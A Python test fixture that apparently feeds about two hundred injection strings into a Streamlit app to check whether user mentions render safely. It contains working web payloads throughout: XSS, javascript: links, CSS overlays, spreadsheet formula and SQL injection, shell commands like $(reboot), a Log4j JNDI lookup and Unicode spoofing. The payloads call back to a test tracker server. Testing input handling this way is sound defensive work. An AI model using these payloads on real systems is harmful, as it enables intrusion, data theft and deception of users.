"""Two hundred ways in which a mention could try to be more than text, as (name, text).

Those that would run set `window.taken`, those that call home ask the server that `aimed` is told of.
"""

from itertools import chain

RUN = "window.taken = 1"

MARKUP = (
    "<script>{run}</script>",
    "<script src='{home}'></script>",
    "<ScRiPt\x0c>{run}</sCrIpT >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src='{home}' onerror='{run}'>",
    "<img src=x onerror={run}//",
    "<img srcset='{home} 2x'>",
    '"><img src=\'{home}\'>',
    "'><svg/onload={run}>",
    "<svg onload='{run}'><image href='{home}'/></svg>",
    "<svg><use href='{home}#a'/></svg>",
    "<svg><foreignObject><iframe src='{home}'></iframe></foreignObject></svg>",
    "<svg><animate onbegin='{run}' attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src='{home}' onerror='{run}'>",
    "<iframe src='{home}'></iframe>",
    "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "<object data='{home}'></object>",
    "<embed src='{home}'>",
    "<video src='{home}' autoplay onplay='{run}'></video>",
    "<audio src='{home}' autoplay></audio>",
    "<body onload='{run}' background='{home}'>",
    "<link rel=stylesheet href='{home}'>",
    "<link rel=prefetch href='{home}'>",
    "<meta http-equiv=refresh content='0;url={home}'>",
    "<base href='{home}'>",
    "<form action='{home}'><input autofocus onfocus='{run}'></form>",
    "<details open ontoggle='{run}'>x</details>",
    "<marquee onstart='{run}'>x</marquee>",
    "<template><script>{run}</script></template>",
    "<noscript><p title=\"</noscript><img src='{home}' onerror='{run}'>\">",
    "<!--><img src='{home}' onerror='{run}'>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM '{home}'>]><x>&y;</x>",
    "</textarea></title></style></script><script>{run}</script>",
    "<a href='{home}' ping='{home}'>click</a>",
    "<portal src='{home}'></portal>",
)  # fmt: skip

STYLES = (
    "<style>body {{ display: none }}</style>",
    "<style>@import url('{home}');</style>",
    "<style>[data-testid=stApp] {{ visibility: hidden }}</style>",
    "<div style='position:fixed;inset:0;z-index:9999999;background:url({home})'>Sign in again</div>",
    "<p style='width:99999px'>wide</p>",
    "</style><style>* {{ background: url('{home}') !important }}",
    "body {{ background: url({home}) }}",
    "@font-face {{ font-family: x; src: url({home}) }}",
)

MARKDOWN = (
    "![tracker]({home})",
    "![tracker][1]\n\n[1]: {home}",
    "[![in a link]({home})]({home})",
    "![](<{home}>)",
    "[run](javascript:{run})",
    "[run](JaVaScRiPt:{run})",
    "[run](data:text/html,<script>{run}</script>)",
    "[run](vbscript:{run})",
    "<javascript:{run}>",
    "<{home}>",
    "[a][b]\n\n[b]: javascript:{run}",
    "# heading\n## heading\n###### heading",
    "heading\n=======\n\nheading\n-------",
    "**bold** *italic* ***both*** ~~gone~~ __bold__ _italic_",
    "> quote\n> > quote\n> > > quote",
    "- a\n  - b\n    - c\n      - d",
    "1. one\n1. one\n1000000000. many",
    "- [ ] to do\n- [x] done",
    "| a | b |\n|---|---|\n| ![t]({home}) | {run} |",
    "```html\n<script>{run}</script>\n```",
    "~~~\nnever ended",
    "`code` ``co`de`` ` ``",
    "    indented code",
    "---\n***\n___",
    "a  \nb\\\nc",
    "[^1]\n\n[^1]: ![t]({home})",
    "Term\n: ![t]({home})",
    "---\ntitle: '{{{{ 7*7 }}}}'\n---",
    "==marked== ^up^ ~down~ ++in++ --out--",
    "\\*not bold\\* \\![t]({home})",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "<!-- a comment that never ends",
    "{home} www.example.org someone@example.org",
    "*" * 2000,
    "[" * 2000,
    "> " * 1000,
)

STREAMLIT = (
    ":material/home: :material/delete:",
    ":material/{run}:",
    ":smile: :+1: :no_such_emoji:",
    ":red[red] :blue-background[blue] :rainbow[all]",
    ":red[:blue[:green[:orange[deep]]]]",
    ":red[![t]({home})]",
    ":gray-badge[admin] :small[tiny]",
    ":color[x]{{foreground='red' background='{home}'}}",
    ":streamlit: :shield[x]",
    "$$\\frac{{1}}{{0}}$$ $x^2$",
    "$$\\includegraphics{{{home}}}$$",
    "$$\\href{{javascript:{run}}}{{run}}$$",
    "$$\\htmlStyle{{background: url({home})}}{{x}}$$",
    "$$\\def\\a{{\\a\\a}}\\a$$",
    "$$\\rule{{9999em}}{{9999em}}$$",
    "$unbalanced {{ $$",
    "-> <- <-> >= <= ~= -- (c)",
    "st.markdown('x', unsafe_allow_html=True)",
)

LINKS = (
    "javascript:{run}",
    "javascript://example.org/%0a{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cudGFrZW49MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload='{run}'/>",
    "file:///etc/passwd",
    "blob:{home}",
    "//example.org/protocol-relative",
    "https://user:password@example.org/",
    "https://example.org\u2044login.example.net/",
    "http://\u0430\u0440\u0440\u04cf\u0435.example/",
)

FORMULAS = (
    '=HYPERLINK("{home}", "x")',
    '=IMAGE("{home}")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '","=1+1","',
    ";=1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    '=WEBSERVICE("{home}")',
)

TEMPLATES = (
    "{{{{7*7}}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{% import os %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{0.__class__.__mro__}}",
    "%s%s%s%n %(name)s %%",
    "$(reboot) `reboot` ; reboot | reboot & reboot",
    "${{jndi:ldap://example.org/a}}",
    "'; DROP TABLE mentions; --",
    "' OR '1'='1",
    "\"); COPY mentions TO '/tmp/x'; --",
    "\\'; SELECT 1; /*",
    "__import__('os').system('reboot')",
    "<#assign x=7*7>",
)

CHARTS = (
    "datum.value = 1",
    "{{'signal': 'window.taken = 1'}}",
    "{{'expr': 'warn(1)'}}",
    "'; event.view.taken = 1; '",
    "constructor.constructor('{run}')()",
    "datum['__proto__']['taken']",
    "<b>tooltip</b><img src='{home}' onerror='{run}'>",
    "{{'url': '{home}'}}",
    "field.with.dots[0]\\'quoted\\'",
    "__proto__",
    "a\nb\nc\nd\ne\nf\ng\nh",
    "width:999999",
)

BREAKERS = (
    '"}}]}}',
    '{{"text": "other", "brand": "Acme"}}',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\",
    '\\"',
    "\r\nSet-Cookie: taken=1\r\n\r\n<script>{run}</script>",
    "\r\nBCC: everybody@example.org",
    "a\r\nb\rc\nd",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x6A;avascript:{run}",
    "%3Cscript%3E{run}%3C%2Fscript%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\ufeffbyte order mark",
    "NaN",
    "null",
    "None",
    "undefined",
    "-0",
    "1e309",
    "true",
    "../../../../etc/passwd",
)

SIGNS = (
    "\x00nothing\x00",
    "\x07bell \x08back \x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\x7f\x80\x85\x9f",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068isolated\u2069",
    "\u200e\u200f\u061cmarks",
    "\u200b\u200c\u200d\u2060nothing wide",
    "\u2028line\u2029paragraph",
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645 \u05e9\u05dc\u05d5\u05dd",
    "\ufdfd\ufdfd\ufdfd",
    "Z\u0351\u036b\u0343a\u0351\u0363l\u0321\u033ag\u036b\u0302o\u0489",
    "e" + "\u0301" * 2000,
    "\u0300leading mark",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3fd\U0001f1e9\U0001f1ea",
    "\U000e0041\U000e0042tags",
    "\ufff9note\ufffa\ufffb\ufffc\ufffd",
    "\ufffe\uffff",
    "\U0001d4d0\U0001d4ec\U0001d4f6\U0001d4ee \uff21\uff43\uff4d\uff45",
    "\u0430\u0441m\u0435",
    "\ue000\uf8ff",
    "\u3164\u115f\u1160\uffa0",
)

LENGTHS = (
    "W" * 50_000,
    "\u6f22" * 20_000,
    "https://example.org/" + "a" * 5_000,
    "\n" * 3_000,
    " " * 5_000,
    "a " * 10_000,
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "styles": STYLES,
    "markdown": MARKDOWN,
    "streamlit": STREAMLIT,
    "links": LINKS,
    "formulas": FORMULAS,
    "templates": TEMPLATES,
    "charts": CHARTS,
    "breakers": BREAKERS,
    "signs": SIGNS,
    "lengths": LENGTHS,
}


def aimed(tracker: str) -> list[tuple[str, str]]:
    """Gives the attacks with the address of the server that they would call."""
    return [
        (f"{family} {place}", text.format(run=RUN, home=f"{tracker}/{family}-{place}.png"))
        for place, (family, text) in enumerate(
            chain.from_iterable(((family, text) for text in texts) for family, texts in FAMILIES.items())
        )
    ]
